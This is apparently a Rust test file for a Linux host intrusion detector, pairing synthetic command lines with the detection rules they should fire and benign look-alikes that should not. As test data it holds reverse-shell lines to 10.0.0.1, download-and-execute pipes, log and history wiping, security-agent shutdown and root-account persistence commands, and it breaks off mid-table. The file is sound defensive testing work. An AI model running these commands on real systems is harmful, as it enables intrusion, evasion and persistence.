//! Table tests of the detector on synthetic events: every built-in rule, benign look-alikes,
//! reputation types, DGA, metadata rebind, aggregation, redaction and suppression.

use std::{collections::BTreeSet, net::SocketAddr, path::PathBuf, sync::Arc};

use vigil_crds::suppression_rule::parse_rules_file;
use vigil_detection::{
    FindingType, Indicator, IndicatorKind, IntelBuilder, ListFormat, SharedIntel, ThreatIntel,
};

use super::*;
use crate::event::{
    Ancestor, DnsAnswer, DnsInfo, DnsQuestion, ExecInfo, ExitInfo, NetInfo, ProcessRef,
};

pub(crate) const SHA_BAD: [u8; 32] = [0xab; 32];

/// A test intel snapshot: one list per reputation type (names `t-<n>`), a trusted range.
pub(crate) fn test_intel() -> ThreatIntel {
    let mut b = IntelBuilder::new();
    let ip_lists: &[(&str, FindingType)] = &[
        ("127.66.0.1", FindingType::BackdoorCcActivityB),
        ("127.66.0.2", FindingType::CryptoCurrencyBitcoinToolB),
        ("127.66.0.3", FindingType::UnauthorizedAccessTorClient),
        ("127.66.0.4", FindingType::TrojanBlackholeTraffic),
        ("127.66.0.5", FindingType::TrojanDropPoint),
        ("127.66.0.6", FindingType::UnauthorizedAccessTorRelay),
        ("127.66.1.0/24", FindingType::BackdoorCcActivityB),
    ];
    for (i, (ip, t)) in ip_lists.iter().enumerate() {
        let id = b
            .add_list(
                &format!("ip-{i}"),
                ListFormat::PlainText(IndicatorKind::Ip),
                vec![*t],
                "test",
            )
            .unwrap();
        b.insert(id, &Indicator::Ip(ip.parse().unwrap())).unwrap();
    }
    for (i, (domain, t)) in dns_cases().iter().enumerate() {
        let id = b
            .add_list(
                &format!("dom-{i}"),
                ListFormat::PlainText(IndicatorKind::Domain),
                vec![*t],
                "test",
            )
            .unwrap();
        b.insert(id, &Indicator::Domain((*domain).into())).unwrap();
    }
    let id = b
        .add_list(
            "bad-hashes",
            ListFormat::PlainText(IndicatorKind::Sha256),
            vec![FindingType::ExecutionMaliciousFileExecuted],
            "test",
        )
        .unwrap();
    b.insert(id, &Indicator::Sha256(SHA_BAD)).unwrap();
    let trusted = b.add_trusted_list("office", "test").unwrap();
    b.insert_trusted(trusted, "127.66.1.128/25".parse().unwrap());
    b.build()
}

fn dns_cases() -> Vec<(&'static str, FindingType)> {
    vec![
        ("c2.test", FindingType::BackdoorCcActivityBDns),
        ("pool.test", FindingType::CryptoCurrencyBitcoinToolBDns),
        ("sink.test", FindingType::TrojanBlackholeTrafficDns),
        ("drop.test", FindingType::TrojanDropPointDns),
        ("driveby.test", FindingType::TrojanDriveBySourceTrafficDns),
        ("phish.test", FindingType::TrojanPhishingDomainRequestDns),
        (
            "abused.test",
            FindingType::ImpactAbusedDomainRequestReputation,
        ),
        (
            "coins.test",
            FindingType::ImpactBitcoinDomainRequestReputation,
        ),
        (
            "malicious.test",
            FindingType::ImpactMaliciousDomainRequestReputation,
        ),
        (
            "suspicious.test",
            FindingType::ImpactSuspiciousDomainRequestReputation,
        ),
    ]
}

fn detector_with(suppression: Vec<CompiledRule>) -> Detector {
    Detector::new(
        Arc::new(SharedIntel::new(test_intel())),
        Some(DgaModel::builtin().unwrap()),
        RuleSet::builtin_shared(),
        suppression,
        DetectorConfig {
            host: HostDetails {
                hostname: "node-a".into(),
                ..HostDetails::default()
            },
            users: [(1000, "alice".to_owned())].into_iter().collect(),
            ..DetectorConfig::default()
        },
        Clock::with_offset(1_700_000_000_000_000_000),
    )
}

fn detector() -> Detector {
    detector_with(Vec::new())
}

fn process(pid: u32, uid: u32, euid: u32, comm: &str) -> ProcessRef {
    ProcessRef {
        pid,
        tid: pid,
        ppid: 100,
        uid,
        gid: uid,
        euid,
        egid: uid,
        comm: comm.into(),
        cgroup_id: 1,
        pid_ns: 1,
        mnt_ns: 1,
        start_time_ns: u64::from(pid) * 1000,
        uuid: format!("uuid-{pid}"),
        ..ProcessRef::default()
    }
}

/// An exec of `argv` (argv[0] names the program) by uid/euid under a parent named `parent`.
fn exec_as(argv: &[&str], parent: &str, uid: u32, euid: u32) -> Event {
    let program = argv[0];
    let exe = if program.starts_with('/') {
        PathBuf::from(program)
    } else {
        PathBuf::from("/usr/bin").join(program)
    };
    let comm: String = super::basename(program).chars().take(15).collect();
    Event::Exec(Box::new(ExecInfo {
        time: "2026-11-27T10:00:00Z".into(),
        process: process(4242, uid, euid, &comm),
        filename: exe.display().to_string(),
        exe: exe.clone(),
        argv: argv.iter().map(|a| (*a).to_owned()).collect(),
        argv_truncated: false,
        argv_tail: false,
        cwd: Some(PathBuf::from("/home/alice")),
        cwd_truncated: false,
        exe_inode: 1,
        exe_dev: 1,
        sha256: Some(crate::exe_hash::Digest([1; 32])),
        sha256_error: None,
        lineage: vec![
            Ancestor {
                pid: 100,
                ppid: 1,
                comm: parent.into(),
                exe: Some(PathBuf::from("/usr/sbin").join(parent)),
                uuid: "uuid-100".into(),
            },
            Ancestor {
                pid: 1,
                ppid: 0,
                comm: "systemd".into(),
                exe: Some(PathBuf::from("/usr/lib/systemd/systemd")),
                uuid: "uuid-1".into(),
            },
        ]
        .into(),
        fileless: false,
        exe_deleted: false,
        host_root: false,
        written_by: None,
        changed_untracked: None,
        stdin_script: None,
        script_written_by: None,
        stdio_sockets: Vec::new(),
        stdin: None,
        stdin_pipe: None,
        stdout_pipe: None,
        fd_pipes: Vec::new(),
        input_fifo: None,
        ld_preload: None,
        ld_audit: None,
        ld_audit_unread: false,
        ld_library_path: None,
        env_truncated: false,
        glibc_tunables: false,
        setuid: uid != euid,
        script_evals: Vec::new(),
        script_lines: Vec::new(),
        argv0_empty: false,
        exe_set_id: false,
    }))
}

fn exec(argv: &[&str]) -> Event {
    exec_as(argv, "bash", 1000, 1000)
}

fn rule_ids(d: &mut Detector, event: &Event) -> Vec<String> {
    d.process(event, &NoLookup)
        .into_iter()
        .map(|o| {
            o.finding
                .context
                .additional
                .get("ruleId")
                .cloned()
                .unwrap_or_else(|| o.finding.finding_type.clone())
        })
        .collect()
}

/// (argv, parent, uid, euid, expected rule ids).
type Case = (Vec<&'static str>, &'static str, u32, u32, Vec<&'static str>);

/// Programs and scripts run from /tmp: Low on the host, whatever they are (technique.rs).
const TMP: &str = "behaviour-exec-from-world-writable-dir";

/// The exec cases. Every built-in rule appears at least once.
fn exec_table() -> Vec<Case> {
    let user = |argv: Vec<&'static str>, want: Vec<&'static str>| (argv, "bash", 1000, 1000, want);
    vec![
        user(vec!["nmap", "-sS", "10.0.0.0/24"], vec!["tool-nmap"]),
        user(vec!["masscan", "-p80", "10.0.0.0/8"], vec!["tool-masscan"]),
        user(
            vec!["sqlmap", "-u", "http://x/?id=1"],
            vec!["tool-web-scanner"],
        ),
        user(vec!["john", "hashes.txt"], vec!["tool-password-cracker"]),
        user(
            vec!["hydra", "-l", "root", "ssh://h"],
            vec!["tool-brute-forcer"],
        ),
        user(vec!["mimipenguin"], vec!["tool-credential-dumper"]),
        user(
            vec!["/bin/sh", "/tmp/linpeas.sh", "-a"],
            vec!["tool-privesc-enumeration-script", TMP],
        ),
        user(vec!["/bin/sh", "/tmp/build.sh"], vec![TMP]),
        user(vec!["/bin/sh", "/home/alice/build.sh"], vec![]),
        user(
            vec!["/tmp/linpeas.sh"],
            vec!["tool-privesc-enumeration", TMP],
        ),
        user(vec!["peirates"], vec!["tool-container-escape-kit"]),
        user(
            vec!["chisel", "client", "h:8080", "R:socks"],
            vec!["tool-tunnel"],
        ),
        user(vec!["msfconsole", "-q"], vec!["tool-c2-framework"]),
        user(
            vec![
                "wstunnel",
                "client",
                "-L",
                "tcp://8080:localhost:22",
                "wss://h",
            ],
            vec!["tool-tunnel"],
        ),
        // Elastic's "Potential Linux Tunneling and/or Port Forwarding": an address-to-address
        // forward given to anything but ssh.
        user(
            vec![
                "/tmp/x/agent",
                "client",
                "h:8080",
                "R:127.0.0.1:3389:10.0.0.5:3389",
            ],
            vec!["tool-port-forward-spec", TMP],
        ),
        user(
            vec!["svc", "-N", "-L", "0.0.0.0:8080:10.0.0.5:80", "u@h"],
            vec!["tool-port-forward-spec"],
        ),
        user(
            vec!["ssh", "-N", "-L", "127.0.0.1:9000:10.0.0.5:22", "u@h"],
            vec![],
        ),
        user(
            vec!["docker", "run", "-p", "127.0.0.1:8080:80", "nginx"],
            vec![],
        ),
        user(
            vec!["sh", "-c", "ssh -L 127.0.0.1:9000:10.0.0.5:22 u@h"],
            vec![],
        ),
        user(
            vec!["nc", "-e", "/bin/sh", "h", "4444"],
            vec!["tool-netcat-exec"],
        ),
        user(vec!["nc", "-lvp", "4444"], vec![]),
        // Falco's "Disallowed SSH Connection Non Standard Port": a reverse tunnel over SSH on
        // a port egress filters let out.
        user(
            vec!["ssh", "-N", "-R", "2222:127.0.0.1:22", "-p", "443", "u@h"],
            vec!["tool-ssh-reverse-tunnel"],
        ),
        user(
            vec!["ssh", "-p4444", "-fNR", "9999:localhost:22", "u@h"],
            vec!["tool-ssh-reverse-tunnel"],
        ),
        user(
            vec![
                "autossh",
                "-M",
                "0",
                "-oRemoteForward=2222 localhost:22",
                "-o",
                "Port=8443",
                "u@h",
            ],
            vec!["tool-ssh-reverse-tunnel"],
        ),
        user(
            vec!["ssh", "-R", "8080:localhost:3000", "dev@bastion"],
            vec![],
        ),
        user(vec!["ssh", "-p", "443", "git@ssh.github.com"], vec![]),
        user(
            vec!["ssh", "-L", "8443:127.0.0.1:443", "-p", "2222", "u@h"],
            vec![],
        ),
        // ncat's long options (Falco's "Netcat Remote Code Execution in Container").
        user(
            vec!["ncat", "h", "4444", "--sh-exec", "/bin/bash -i"],
            vec!["tool-netcat-exec"],
        ),
        user(
            vec!["ncat", "-l", "4445", "--exec=/bin/sh"],
            vec!["tool-netcat-exec"],
        ),
        user(
            vec!["ncat", "--lua-exec", "x.lua", "h", "4446"],
            vec!["tool-netcat-exec"],
        ),
        user(vec!["ncat", "--ssl", "h", "443"], vec![]),
        user(
            vec!["socat", "TCP:h:4444", "EXEC:/bin/bash"],
            vec!["tool-socat-exec"],
        ),
        user(vec!["socat", "TCP-LISTEN:80", "TCP:h:8080"], vec![]),
        user(vec!["tor", "-f", "torrc"], vec!["tool-tor"]),
        user(
            vec!["xmrig", "--config", "c.json"],
            vec!["miner-known-binary"],
        ),
        // The GuardDuty tester's java-webshell payload, fetched as /tmp/cnrig.
        user(vec!["/tmp/cnrig"], vec!["miner-known-binary", TMP]),
        user(
            vec!["/tmp/.x/kworker", "-o", "stratum+tcp://pool:3333"],
            // Hidden behind `.x` too, and named like a kernel thread.
            vec![
                "miner-stratum-url",
                TMP,
                "behaviour-hidden-program",
                "behaviour-masquerading",
            ],
        ),
        user(vec!["sh", "-c", "./m -o stratum+tcp://pool:3333"], vec![]),
        // Falco's event generator: the scheme alone, the pool given in parts.
        user(
            vec!["/usr/bin/ls", "-o stratum+tcp", "-u user", "-p pass"],
            vec!["miner-stratum-url"],
        ),
        user(vec!["/usr/bin/grep", "-r", "stratum+tcpx", "."], vec![]),
        user(
            vec!["/tmp/syslogd", "--donate-level=1", "-a", "rx/0"],
            // A system daemon's name, run from /tmp.
            vec!["miner-cli-options", TMP, "behaviour-masquerading"],
        ),
        case(
            "nginx",
            33,
            33,
            vec!["sh", "-i"],
            vec!["behaviour-shell-from-program"],
        ),
        // A web server having a shell run a command string: a web shell's `system()`.
        case(
            "nginx",
            33,
            33,
            vec!["sh", "-c", "ls /var/www"],
            vec!["behaviour-shell-from-web-server"],
        ),
        case(
            "php-fpm8.2",
            33,
            33,
            vec!["sh", "-c", "id; uname -a"],
            vec!["behaviour-shell-from-web-server"],
        ),
        // Its helpers, alone: PHP's mail(), Apache's piped logs; and a CGI shell script.
        case(
            "php-fpm8.2",
            33,
            33,
            vec!["sh", "-c", "/usr/sbin/sendmail -t -i"],
            vec![],
        ),
        case(
            "apache2",
            33,
            33,
            vec![
                "/bin/sh",
                "-c",
                "exec /usr/bin/rotatelogs /var/log/apache2/access.log 86400",
            ],
            vec![],
        ),
        case(
            "apache2",
            33,
            33,
            vec!["/bin/sh", "/usr/lib/cgi-bin/status.sh"],
            vec![],
        ),
        // A database server having a shell run a command string: PostgreSQL's
        // `COPY t FROM PROGRAM 'id'`, a MySQL `sys_exec()` UDF, from the backend.
        case(
            "postgres",
            104,
            104,
            vec!["sh", "-c", "id"],
            vec!["behaviour-shell-from-database-server"],
        ),
        case(
            "postgres",
            104,
            104,
            vec!["sh", "-c", "true; uname -a"],
            vec!["behaviour-shell-from-database-server"],
        ),
        case(
            "mysqld",
            105,
            105,
            vec!["/bin/sh", "-c", "whoami"],
            vec!["behaviour-shell-from-database-server"],
        ),
        // Lower-case hex is not a WAL segment's name.
        case(
            "postgres",
            104,
            104,
            vec!["sh", "-c", "cat /etc/passwd # 00000001000000000000000a"],
            vec!["behaviour-shell-from-database-server"],
        ),
        // PostgreSQL's own: archive_command, restore_command, archive_cleanup_command with their
        // `%p`, `%f` and `%r` put in; `true` as a do-nothing archive_command; Galera's transfer.
        case(
            "postgres",
            104,
            104,
            vec![
                "sh",
                "-c",
                "cp pg_wal/000000010000000000000003 /var/lib/postgresql/archive/000000010000000000000003",
            ],
            vec![],
        ),
        case(
            "postgres",
            104,
            104,
            vec![
                "sh",
                "-c",
                "test ! -f /mnt/archive/000000010000000A000000FF && gzip < pg_wal/000000010000000A000000FF > /mnt/archive/000000010000000A000000FF",
            ],
            vec![],
        ),
        case(
            "postgres",
            104,
            104,
            vec![
                "sh",
                "-c",
                "pgbackrest --stanza=main archive-push pg_wal/000000010000000000000003.partial",
            ],
            vec![],
        ),
        case(
            "postgres",
            104,
            104,
            vec![
                "sh",
                "-c",
                "wal-g wal-fetch \"00000002.history\" \"pg_wal/RECOVERYHISTORY\"",
            ],
            vec![],
        ),
        case(
            "postgres",
            104,
            104,
            vec![
                "sh",
                "-c",
                "barman-wal-restore -U barman backup main 000000010000000000000004 pg_wal/RECOVERYXLOG",
            ],
            vec![],
        ),
        case(
            "postgres",
            104,
            104,
            vec![
                "sh",
                "-c",
                "pg_archivecleanup /mnt/archive 000000010000000000000002.00000028.backup",
            ],
            vec![],
        ),
        case("postgres", 104, 104, vec!["sh", "-c", "/bin/true"], vec![]),
        case(
            "mariadbd",
            105,
            105,
            vec![
                "sh",
                "-c",
                "wsrep_sst_rsync --role 'joiner' --address '127.0.0.1' --datadir '/var/lib/mysql/' --parent '812'",
            ],
            vec![],
        ),
        // A shell command string from a program that is not a web server.
        case("cron", 0, 0, vec!["sh", "-c", "id; uname -a"], vec![]),
        case("sshd", 1000, 1000, vec!["bash", "-l"], vec![]),
        user(
            vec!["sh", "-c", "curl -fsSL http://x/i.sh | sh"],
            vec!["exec-download-pipe-shell"],
        ),
        user(vec!["sh", "-c", "curl -fsSL http://x/i.sh -o i.sh"], vec![]),
        user(
            vec!["sh", "-c", "bash -c \"$(curl -fsSL http://x/i.sh)\""],
            vec!["exec-download-substitution-shell"],
        ),
        user(
            vec!["bash", "-c", "eval \"$(wget -qO- http://x/i.sh)\""],
            vec!["exec-download-substitution-shell"],
        ),
        user(
            vec!["bash", "-c", "source <(curl -s http://x/i.sh)"],
            vec!["exec-download-substitution-shell"],
        ),
        user(
            vec!["bash", "-c", "v=$(curl -s http://x/version); echo $v"],
            vec![],
        ),
        user(
            vec![
                "bash",
                "-c",
                "eval \"$(ssh-agent -s)\"; source <(kubectl completion bash)",
            ],
            vec![],
        ),
        user(
            vec!["bash", "-c", "echo aGk= | base64 -d | bash"],
            vec!["exec-base64-pipe-shell"],
        ),
        user(
            vec!["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"],
            vec!["exec-dev-tcp"],
        ),
        user(
            vec!["python3", "-c", "import pty; pty.spawn('/bin/bash')"],
            vec!["exec-interpreter-pty-spawn"],
        ),
        user(vec!["python3", "-c", "print(1)"], vec![]),
        user(vec!["/dev/shm/x"], vec!["behaviour-exec-from-memory-dir"]),
        user(
            vec!["bash", "-c", "history -c"],
            vec!["evasion-clear-history"],
        ),
        user(vec!["bash", "-c", "history | tail"], vec![]),
        // The ways a third-party test switches the history off in a `bash -c` line.
        user(
            vec!["bash", "-c", "unset HISTFILE; id"],
            vec!["evasion-clear-history"],
        ),
        user(
            vec!["sh", "-c", "export HISTFILESIZE=0; id"],
            vec!["evasion-clear-history"],
        ),
        user(
            vec!["bash", "-c", "export HISTSIZE='0'"],
            vec!["evasion-clear-history"],
        ),
        user(
            vec!["bash", "-c", "export HISTFILE=''; id"],
            vec!["evasion-clear-history"],
        ),
        // Atomic Red Team's T1562.003 #8 quotes the path.
        user(
            vec![
                "bash",
                "-c",
                "export HISTFILE=\"/dev/null\"\necho $HISTFILE",
            ],
            vec!["evasion-clear-history"],
        ),
        user(
            vec!["bash", "-c", "export HISTFILE=\"/home/a/.bash_history\""],
            vec![],
        ),
        user(
            vec!["bash", "-c", "set +o history; id"],
            vec!["evasion-clear-history"],
        ),
        user(
            vec!["bash", "-c", "export HISTCONTROL=\"ignoreboth\"; id"],
            vec!["evasion-clear-history"],
        ),
        user(
            vec!["bash", "-c", "export HISTIGNORE='*'; id"],
            vec!["evasion-clear-history"],
        ),
        user(
            vec![
                "bash",
                "-c",
                "HISTFILE=/home/a/.h HISTFILESIZE=5000 bash -i",
            ],
            vec![],
        ),
        user(vec!["bash", "-c", "export HISTCONTROL=erasedups"], vec![]),
        user(vec!["bash", "-c", "export HISTIGNORE='ls:pwd'"], vec![]),
        user(vec!["bash", "-c", "set -o history; set +o errexit"], vec![]),
        user(
            vec!["shred", "-u", "/var/log/auth.log"],
            vec!["evasion-wipe-logs"],
        ),
        user(vec!["rm", "-rf", "/var/log/"], vec!["evasion-wipe-logs"]),
        user(vec!["rm", "-f", "/var/log/app/old.log.1"], vec![]),
        // `rm -rf /var/log/*` as rm receives it, the shell having expanded the glob.
        user(
            vec![
                "rm",
                "-rf",
                "/var/log/apt",
                "/var/log/auth.log",
                "/var/log/dpkg.log",
                "/var/log/journal",
            ],
            vec!["evasion-wipe-logs"],
        ),
        user(
            vec![
                "rm",
                "-f",
                "/var/log/a.1.gz",
                "/var/log/b.1.gz",
                "/var/log/c.1.gz",
            ],
            vec![],
        ),
        user(
            vec![
                "rm",
                "-rf",
                "/var/log/app/a",
                "/var/log/app/b",
                "/var/log/app/c",
            ],
            vec![],
        ),
        user(
            vec!["setarch", "x86_64", "-R", "/bin/bash"],
            vec!["evasion-aslr-off-for-a-program"],
        ),
        user(
            vec!["setarch", "--addr-no-randomize", "./a.out"],
            vec!["evasion-aslr-off-for-a-program"],
        ),
        user(vec!["setarch", "i686", "./configure"], vec![]),
        user(vec!["setarch", "i686", "ls", "-R", "/srv"], vec![]),
        user(
            vec!["x86_64", "-R", "/bin/sh"],
            vec!["evasion-aslr-off-for-a-program"],
        ),
        user(vec!["linux32", "--uname-2.6", "make"], vec![]),
        user(vec!["iptables", "-F"], vec!["evasion-flush-firewall"]),
        // Atomic Red Team's T1562.004 #10; the level set otherwise is ordinary.
        user(
            vec!["ufw", "logging", "off"],
            vec!["evasion-flush-firewall"],
        ),
        user(vec!["ufw", "logging", "low"], vec![]),
        user(vec!["iptables", "-t", "nat", "-F", "DOCKER"], vec![]),
        user(vec!["setenforce", "0"], vec!["evasion-disable-security"]),
        user(
            vec!["systemctl", "stop", "auditd"],
            vec!["evasion-disable-security"],
        ),
        user(vec!["systemctl", "stop", "nginx"], vec![]),
        user(
            vec!["sh", "-c", "echo /tmp/x.so > /etc/ld.so.preload"],
            vec!["evasion-ld-preload-file"],
        ),
        user(
            vec!["find", "/", "-perm", "-4000", "-type", "f"],
            vec!["discovery-suid-search"],
        ),
        user(vec!["find", ".", "-name", "*.rs"], vec![]),
        user(
            vec!["getcap", "-r", "/"],
            vec!["discovery-capability-search"],
        ),
        user(
            vec!["curl", "http://169.254.169.254/latest/meta-data/"],
            vec!["discovery-cloud-metadata"],
        ),
        user(vec!["curl", "https://example.com/"], vec![]),
        user(
            vec!["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"],
            vec!["discovery-service-account-token"],
        ),
        user(
            vec![
                "sh",
                "-c",
                "echo ssh-ed25519 AAAA >> /root/.ssh/authorized_keys",
            ],
            vec!["persistence-authorized-keys"],
        ),
        user(vec!["sh", "-c", "cat ~/.ssh/authorized_keys"], vec![]),
        user(
            vec![
                "sh",
                "-c",
                "(crontab -l; echo '* * * * * /tmp/x') | crontab -",
            ],
            vec!["persistence-cron-write"],
        ),
        user(vec!["crontab", "-l"], vec![]),
        user(
            vec!["sh", "-c", "echo /tmp/x >> /etc/rc.local"],
            vec!["persistence-boot-script"],
        ),
        user(
            vec!["systemctl", "enable", "/tmp/evil.service"],
            vec!["persistence-systemd-unit-from-tmp"],
        ),
        user(vec!["systemctl", "enable", "nginx"], vec![]),
        user(
            vec![
                "systemd-run",
                "--user",
                "--unit=job",
                "--on-calendar=*:0/1",
                "/bin/sh",
                "-c",
                "id",
            ],
            vec!["persistence-systemd-run-timer"],
        ),
        user(
            vec!["systemd-run", "--on-active", "30", "/tmp/x"],
            vec!["persistence-systemd-run-timer"],
        ),
        user(
            vec!["systemd-run", "--scope", "-p", "MemoryMax=1G", "make"],
            vec![],
        ),
        user(vec!["systemd-run", "--wait", "/usr/bin/true"], vec![]),
        user(vec!["chmod", "u+s", "/tmp/sh"], vec!["privesc-setuid-bit"]),
        user(vec!["chmod", "4755", "/tmp/sh"], vec!["privesc-setuid-bit"]),
        user(vec!["chmod", "0755", "/tmp/sh"], vec![]),
        user(vec!["chmod", "u+x", "script.sh"], vec![]),
        user(
            vec!["setcap", "cap_setuid+ep", "/tmp/python3"],
            vec!["privesc-dangerous-capability"],
        ),
        user(
            vec!["setcap", "cap_net_bind_service+ep", "/usr/bin/app"],
            vec![],
        ),
        user(
            vec![
                "sh",
                "-c",
                "echo 'x ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers",
            ],
            vec!["privesc-sudoers-write"],
        ),
        user(
            vec!["usermod", "-aG", "docker", "alice"],
            vec!["privesc-privileged-group"],
        ),
        user(vec!["usermod", "-aG", "video", "alice"], vec![]),
        user(
            vec!["useradd", "-o", "-u", "0", "-g", "0", "-M", "butter"],
            vec!["privesc-root-account-created"],
        ),
        user(
            vec!["useradd", "--uid=0", "--non-unique", "x"],
            vec!["privesc-root-account-created"],
        ),
        user(
            vec!["usermod", "-g", "root", "alice"],
            vec!["privesc-root-account-created"],
        ),
        user(
            vec!["useradd", "-m", "-u", "1001", "-g", "100", "bob"],
            vec![],
        ),
        user(vec!["useradd", "-u", "10", "sys"], vec![]),
        user(
            vec!["nsenter", "-t", "1", "-m", "-u", "-n", "-i", "sh"],
            vec!["privesc-nsenter-init"],
        ),
        user(
            vec!["docker", "run", "--privileged", "-it", "alpine"],
            vec!["privesc-privileged-container"],
        ),
        user(vec!["docker", "run", "--rm", "alpine", "true"], vec![]),
        case(
            "bash",
            1000,
            0,
            vec!["/tmp/rootme"],
            vec!["elevation-setuid-root", TMP],
        ),
        case("bash", 1000, 0, vec!["sudo", "-i"], vec![]),
        case("bash", 0, 0, vec!["/tmp/rootme"], vec![TMP]),
        // Third-party tests, third pass (issue 11): security software looked for and turned off,
        // file times and attributes, credentials, sniffing and scanning.
        user(
            vec!["grep", "-E", "falcond|nessusd|cbagentd|td-agent|osqueryd"],
            vec!["discovery-security-software"],
        ),
        user(
            vec!["grep", "-i", "-e", "falco", "-e", "auditd"],
            vec!["discovery-security-software"],
        ),
        user(
            vec!["pgrep", "-l", "falco"],
            vec!["discovery-security-software"],
        ),
        user(
            vec!["ls", "/opt/CrowdStrike"],
            vec!["discovery-security-software"],
        ),
        user(vec!["grep", "-r", "falconry", "notes/"], vec![]),
        user(vec!["pgrep", "-x", "nginx"], vec![]),
        user(vec!["ls", "/opt"], vec![]),
        user(
            vec!["systemctl", "stop", "rsyslog"],
            vec!["evasion-disable-security"],
        ),
        user(
            vec!["systemctl", "disable", "--now", "falcon-sensor.service"],
            vec!["evasion-disable-security"],
        ),
        user(
            vec!["service", "cbdaemon", "stop"],
            vec!["evasion-disable-security"],
        ),
        user(
            vec!["chkconfig", "rsyslog", "off"],
            vec!["evasion-disable-security"],
        ),
        user(
            vec!["/bin/sh", "/etc/init.d/rsyslog", "stop"],
            vec!["evasion-disable-security"],
        ),
        user(
            vec!["pkill", "-9", "auditd"],
            vec!["evasion-disable-security"],
        ),
        user(vec!["killall", "falco"], vec!["evasion-disable-security"]),
        user(
            vec!["auditctl", "-e", "0"],
            vec!["evasion-disable-security"],
        ),
        user(
            vec!["systemctl", "stop", "sysmon"],
            vec!["evasion-disable-security"],
        ),
        user(vec!["service", "rsyslog", "restart"], vec![]),
        user(vec!["pkill", "-HUP", "nginx"], vec![]),
        user(vec!["auditctl", "-l"], vec![]),
        user(
            vec!["touch", "-a", "-t", "202401010000", "f"],
            vec!["evasion-timestomp"],
        ),
        user(
            vec!["touch", "-d", "@1700000000", "out.tar"],
            vec!["evasion-timestomp"],
        ),
        user(
            vec!["touch", "-m", "-t", "197001010000.00", "f"],
            vec!["evasion-timestomp", "evasion-timestomp-from-system-file"],
        ),
        user(
            vec!["touch", "-acmr", "/bin/sh", "/tmp/f"],
            vec!["evasion-timestomp", "evasion-timestomp-from-system-file"],
        ),
        user(
            vec!["touch", "--date=1999-12-31", "f"],
            vec!["evasion-timestomp", "evasion-timestomp-from-system-file"],
        ),
        user(vec!["touch", "stamp"], vec![]),
        user(vec!["touch", "-c", "a", "b"], vec![]),
        user(
            vec!["chattr", "-ia", "/etc/ld.so.preload"],
            vec!["evasion-immutable-attribute"],
        ),
        user(
            vec!["chattr", "+i", "/etc/crontab"],
            vec!["evasion-immutable-attribute"],
        ),
        user(vec!["chattr", "+C", "/var/lib/db"], vec![]),
        // Miner droppers (docs/EFFICACY.md, "Cloud-miner and botnet scripts"): competitors killed
        // by name, AWS key ids searched for, SELinux off from the next boot.
        user(
            vec!["pkill", "-f", "kdevtmpfsi"],
            vec!["exec-miner-competitor-kill"],
        ),
        user(
            vec!["killall", "-9", "xmrig"],
            vec!["exec-miner-competitor-kill"],
        ),
        user(
            vec!["pkill", "-f", "stratum+tcp"],
            vec!["exec-miner-competitor-kill"],
        ),
        user(vec!["pkill", "-f", "gunicorn"], vec![]),
        // A miner worm's spread: a download piped into a shell on the next host.
        user(
            vec![
                "ssh",
                "-oStrictHostKeyChecking=no",
                "-oBatchMode=yes",
                "root@10.0.0.7",
                "(curl -fsSL http://h/x.sh||wget -q -O- http://h/x.sh)|bash",
            ],
            vec!["exec-remote-download-pipe-shell"],
        ),
        user(
            vec!["ssh", "web1", "curl -s http://localhost/health | jq ."],
            vec![],
        ),
        // A program fetched and executed in-process by an interpreter one-liner.
        user(
            vec![
                "python3",
                "-c",
                "import urllib.request;exec(urllib.request.urlopen('http://10.0.0.1/x.py').read())",
            ],
            vec!["exec-interpreter-downloaded-program"],
        ),
        user(
            vec![
                "python3",
                "-c",
                "import requests; exec(requests.get('https://h/p').text)",
            ],
            vec!["exec-interpreter-downloaded-program"],
        ),
        user(
            vec!["perl", "-MLWP::Simple", "-e", "eval(get('http://h/p'))"],
            vec!["exec-interpreter-downloaded-program"],
        ),
        user(
            vec![
                "python3",
                "-c",
                "import json,urllib.request;print(json.load(urllib.request.urlopen('http://h/v')))",
            ],
            vec![],
        ),
        // The fetched text handed to a shell.
        user(
            vec![
                "python3",
                "-c",
                "import urllib.request,subprocess;subprocess.run(['sh','-c',urllib.request.urlopen('http://127.0.0.1:8765/x.sh').read().decode()])",
            ],
            vec!["exec-interpreter-downloaded-program"],
        ),
        user(
            vec![
                "python3",
                "-c",
                "import os,urllib.request;os.system(urllib.request.urlopen('http://h/x').read().decode())",
            ],
            vec!["exec-interpreter-downloaded-program"],
        ),
        user(
            vec!["perl", "-MLWP::Simple", "-e", "system(get('http://h/p'))"],
            vec!["exec-interpreter-downloaded-program"],
        ),
        // A shell command given a fetched value as data, not as its program: nothing.
        user(
            vec![
                "python3",
                "-c",
                "import os,urllib.request;v=urllib.request.urlopen('http://h/v').read();os.system('logger ok')",
            ],
            vec![],
        ),
        // Cloud host agents removed (Alibaba's Aegis, Tencent's YunJing), as miner scripts do.
        user(
            vec!["pkill", "-f", "AliYunDun"],
            vec!["evasion-disable-security"],
        ),
        user(
            vec!["systemctl", "stop", "aegis"],
            vec!["evasion-disable-security"],
        ),
        user(
            vec!["/bin/sh", "/usr/local/qcloud/YunJing/uninst.sh"],
            vec!["evasion-disable-security"],
        ),
        user(
            vec!["bash", "/usr/local/aegis/uninstall.sh"],
            vec!["evasion-disable-security"],
        ),
        user(vec!["bash", "/usr/local/aegis/check.sh"], vec![]),
        user(vec!["killall", "firefox"], vec![]),
        user(
            vec!["grep", "-r", "AKIA", "/root"],
            vec!["discovery-password-search"],
        ),
        user(
            vec!["grep", "-rEo", "AKIA[A-Z0-9]{16}", "/home"],
            vec!["discovery-password-search"],
        ),
        user(
            vec!["grep", "-rl", "AKIAIOSFODNN7EXAMPLE", "/srv"],
            vec!["discovery-password-search"],
        ),
        user(vec!["grep", "-rl", "AKIAIOSFODNN7EXAMPLEX", "/srv"], vec![]),
        user(vec!["grep", "-r", "Akiane", "/home/ann/notes"], vec![]),
        user(
            vec![
                "sed",
                "-i",
                "s/SELINUX=enforcing/SELINUX=disabled/",
                "/etc/selinux/config",
            ],
            vec!["evasion-selinux-disabled-at-boot"],
        ),
        user(
            vec!["sh", "-c", "echo SELINUX=disabled > /etc/selinux/config"],
            vec!["evasion-selinux-disabled-at-boot"],
        ),
        user(
            vec!["sed", "-n", "s/SELINUXTYPE=//p", "/etc/selinux/config"],
            vec![],
        ),
        user(
            vec!["chmod", "777", "/etc/passwd"],
            vec!["evasion-system-file-world-writable"],
        ),
        user(
            vec!["chmod", "-R", "o+w", "/usr/local/bin"],
